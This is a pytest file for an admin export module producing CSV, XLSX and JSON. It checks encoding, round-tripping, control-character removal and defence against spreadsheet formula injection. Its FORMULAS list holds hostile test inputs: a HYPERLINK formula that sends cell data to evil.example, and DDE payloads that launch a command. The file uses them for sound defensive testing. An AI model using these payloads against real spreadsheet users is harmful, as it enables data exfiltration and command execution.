"""Export files: the same rows as CSV (Excel-friendly), XLSX and JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from handlers.admin.exports import formula_like, write

ROWS = [
    {
        "id": 1,
        "title": "加装电梯",
        "hours": Decimal("1.5"),
        "created": datetime(2026, 11, 30, tzinfo=UTC),
    },
    {"id": 2, "title": "楼道堆物, 清理", "hours": None, "created": None},
]


def test_csv_has_a_bom_and_round_trips() -> None:
    data = write(ROWS, "csv")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1]["title"] == "楼道堆物, 清理" and rows[0]["hours"] == "1.5"


def test_json_is_readable_chinese() -> None:
    data = json.loads(write(ROWS, "json"))
    assert data[0] == {
        "id": 1,
        "title": "加装电梯",
        "hours": 1.5,
        "created": "2026-11-30T00:00:00+00:00",
    }
    assert "加装电梯".encode() in write(ROWS, "json")


def test_xlsx_has_header_and_rows() -> None:
    sheet = load_workbook(io.BytesIO(write(ROWS, "xlsx"))).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("id", "title", "hours", "created") and values[1][1] == "加装电梯"


def test_unknown_format() -> None:
    with pytest.raises(ValueError):
        write(ROWS, "pdf")


# Text a spreadsheet would run: OWASP's leading characters, with blanks, invisible characters or
# full-width forms in front of them, and a line break or tab first.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n-1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff@A1",
    "＝1+1",
    "-5",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_neutralized_in_csv(text: str) -> None:
    data = write([{"id": 1, "title": text}], "csv").decode("utf-8-sig")
    cell = next(iter(csv.DictReader(io.StringIO(data))))["title"]
    assert cell.startswith("'") and cell[1:] == text.replace("\r", "\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_a_string_in_xlsx(text: str) -> None:
    sheet = load_workbook(io.BytesIO(write([{"id": 1, "title": text}], "xlsx"))).active
    cell = sheet["B2"]
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is() -> None:
    rows = [
        {"lat": -33.5, "hours": Decimal("-2.5"), "delta": -7, "note": "a-b", "when": "2026-11-30"}
    ]
    data = write(rows, "csv").decode("utf-8-sig")
    assert next(iter(csv.DictReader(io.StringIO(data)))) == {
        "lat": "-33.5",
        "hours": "-2.5",
        "delta": "-7",
        "note": "a-b",
        "when": "2026-11-30",
    }
    sheet = load_workbook(io.BytesIO(write(rows, "xlsx"))).active
    assert [c.data_type for c in sheet[2]] == ["n", "n", "n", "s", "s"]
    assert [c.value for c in sheet[2]] == [-33.5, -2.5, -7, "a-b", "2026-11-30"]


def test_control_characters_and_lone_surrogates_are_dropped_in_every_format() -> None:
    rows = [{"text": "灯\x00坏\x0b了\x1b\x7f\x85\x9f\ud800\ufffe", "n": 1}]
    for fmt in ("csv", "json"):
        assert "灯坏了" in write(rows, fmt).decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(write(rows, "xlsx"))).active
    assert sheet["A2"].value == "灯坏了"


NUMBERS = st.one_of(
    st.integers(-(10**12), 10**12), st.floats(-1e12, 1e12, allow_nan=False, allow_infinity=False)
)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(st.text(), NUMBERS), max_size=4))
def test_any_cell_exports_safely_in_every_format(values: list[object]) -> None:
    """Whatever is stored: the files are written, no XLSX cell is a formula, no CSV cell starts
    like one, and numbers come back as the same numbers."""
    row = {f"c{i}": value for i, value in enumerate(values)}
    json.loads(write([row], "json"))
    cells = next(csv.reader(io.StringIO(write([row], "csv").decode("utf-8-sig").split("\n", 1)[1])))
    for value, cell in zip(values, cells, strict=False):
        if isinstance(value, str):
            assert not formula_like(cell) and cell[:1] not in ("=", "+", "-", "@")
    sheet = load_workbook(io.BytesIO(write([row], "xlsx"))).active
    for value, cell in zip(values, sheet[2], strict=False):
        assert cell.data_type != "f"
        if not isinstance(value, str):
            assert cell.value == pytest.approx(value, rel=1e-14)
